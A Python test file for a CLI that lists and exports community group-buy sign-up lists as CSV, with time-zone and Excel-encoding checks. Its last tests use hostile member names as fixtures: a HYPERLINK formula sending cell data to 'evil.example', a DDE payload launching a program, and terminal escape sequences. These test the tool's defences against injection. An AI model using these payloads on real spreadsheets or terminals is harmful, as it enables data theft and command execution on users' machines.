"""`hearth signups list` and `hearth signups export` as an operator runs them, on both databases."""

from __future__ import annotations

import codecs
import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from hearthkeeper.apply import apply_playbook
from hearthkeeper.cli import app
from hearthkeeper.clock import FrozenClock
from hearthkeeper.playbook import parse_playbook
from hearthkeeper.store import Store
from tests.capabilities.signups.test_signups import say, staffed
from tests.engine_setup import RULES
from tests.playbook_samples import MINIMAL

SHANGHAI = MINIMAL.replace("language: en", "language: zh-CN").replace(
    "Europe/London", "Asia/Shanghai"
)


def _group_buy(store: Store, clock: FrozenClock) -> None:
    loaded = parse_playbook(SHANGHAI + RULES)
    apply_playbook(store, loaded, "test")  # the export reads the community's time zone from it
    c = staffed(store, clock, loaded.playbook)
    say(c, "boss", "/团购 有机蔬菜 | 西兰花 ¥12.5 限3份 | 胡萝卜 ¥8 | 截止 明天 10:00")
    say(c, "王小美", "+1 西兰花 x2 不要太老的")
    say(c, "bob", "接龙 胡萝卜 3份")
    say(c, "ann", "+1 西兰花 x2")  # one left: waitlisted
    say(c, "dan", "+1 西兰花")
    say(c, "dan", "-1")  # cancelled: not in the final list


def _export_to(target: Path, database_url: str) -> tuple[Result, list[dict[str, str]]]:
    """`hearth signups export 1 -o TARGET`, which must succeed, and the rows it wrote."""
    env = {"HEARTH_DATABASE_URL": database_url}
    result = CliRunner().invoke(app, ["signups", "export", "1", "-o", str(target)], env=env)
    assert result.exit_code == 0, result.output
    with target.open(encoding="utf-8-sig", newline="") as handle:
        return result, list(csv.DictReader(handle))


def test_export_writes_the_final_list_as_csv_that_excel_opens(
    store: Store, store_clock: FrozenClock, database_url: str, tmp_path: Path
) -> None:
    _group_buy(store, store_clock)
    target = tmp_path / "有机蔬菜.csv"
    result, rows = _export_to(target, database_url)
    assert "Wrote 3 entries of #1 有机蔬菜" in result.stdout
    assert target.read_bytes().startswith(codecs.BOM_UTF8), "a BOM, so Excel reads UTF-8"
    assert [(r["number"], r["status"], r["name"], r["item"], r["price"], r["quantity"],
             r["amount"], r["note"]) for r in rows] == [
        ("1", "confirmed", "王小美", "西兰花", "12.50", "2", "25", "不要太老的"),
        ("2", "confirmed", "bob", "胡萝卜", "8", "3", "24", ""),
        ("W1", "waitlisted", "ann", "西兰花", "12.50", "2", "25", ""),
    ]  # fmt: skip
    assert rows[0]["signed_up_at"] == "2026-05-01 17:00", "in the community's time zone"


def test_export_to_standard_output_and_unknown_lists(
    store: Store, store_clock: FrozenClock, database_url: str
) -> None:
    _group_buy(store, store_clock)
    env = {"HEARTH_DATABASE_URL": database_url}
    result = CliRunner().invoke(app, ["signups", "export", "1"], env=env)
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0][:3] == ["number", "status", "name"] and len(rows) == 4
    missing = CliRunner().invoke(app, ["signups", "export", "42"], env=env)
    assert missing.exit_code == 1 and "no sign-up list with id 42" in missing.stderr


def test_list_shows_each_list_with_its_counts(
    store: Store, store_clock: FrozenClock, database_url: str
) -> None:
    env = {"HEARTH_DATABASE_URL": database_url}
    empty = CliRunner().invoke(app, ["signups", "list"], env=env)
    assert empty.exit_code == 0 and "No sign-up lists yet." in empty.stdout
    _group_buy(store, store_clock)
    listed = CliRunner().invoke(app, ["signups", "list", "--open"], env=env)
    assert listed.exit_code == 0
    assert (
        "#1  open  g1  有机蔬菜  closes 2026-05-02 10:00  2 signed up, 1 waitlisted"
        in listed.stdout
    )
    # whose clock, named once (before, the list never said)
    assert listed.stdout.splitlines()[0] == "Times in Asia/Shanghai (the community's time zone)."
    unknown = CliRunner().invoke(app, ["signups", "list", "--community", "nope"], env=env)
    assert unknown.exit_code == 1 and "no community 'nope'" in unknown.stderr


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = "\x1b]0;pwned\x07\x1b[2J小\x9b31m明"


def _hostile_list(store: Store, clock: FrozenClock) -> None:
    loaded = parse_playbook(SHANGHAI + RULES)
    apply_playbook(store, loaded, "test")
    c = staffed(store, clock, loaded.playbook)
    say(c, "boss", "/接龙 周六徒步\x1b[31m | 截止 明天 10:00")
    say(c, HOSTILE_NAME, "+1 @SUM(1+1)*cmd|' /C calc'!A0")
    say(c, ESCAPES, "接龙 -2+3")


def test_export_keeps_spreadsheets_from_running_members_text_as_formulas(
    store: Store, store_clock: FrozenClock, database_url: str, tmp_path: Path
) -> None:
    _hostile_list(store, store_clock)
    _, rows = _export_to(tmp_path / "hike.csv", database_url)
    assert rows[0]["name"] == "'" + HOSTILE_NAME
    assert rows[0]["note"].startswith("'@SUM(1+1)")
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # a decision, not a query
def test_terminal_output_carries_no_escape_sequences(
    store: Store, store_clock: FrozenClock, database_url: str
) -> None:
    _hostile_list(store, store_clock)
    env = {"HEARTH_DATABASE_URL": database_url}
    exported = CliRunner().invoke(app, ["signups", "export", "1"], env=env)
    listed = CliRunner().invoke(app, ["signups", "list"], env=env)
    for result in (exported, listed):
        assert result.exit_code == 0, result.output
        assert not any(c in result.stdout for c in "\x1b\x07\x9b"), repr(result.stdout)
    assert "]0;pwned[2J小31m明" in exported.stdout, "the visible text stays"
    assert "周六徒步[31m" in listed.stdout
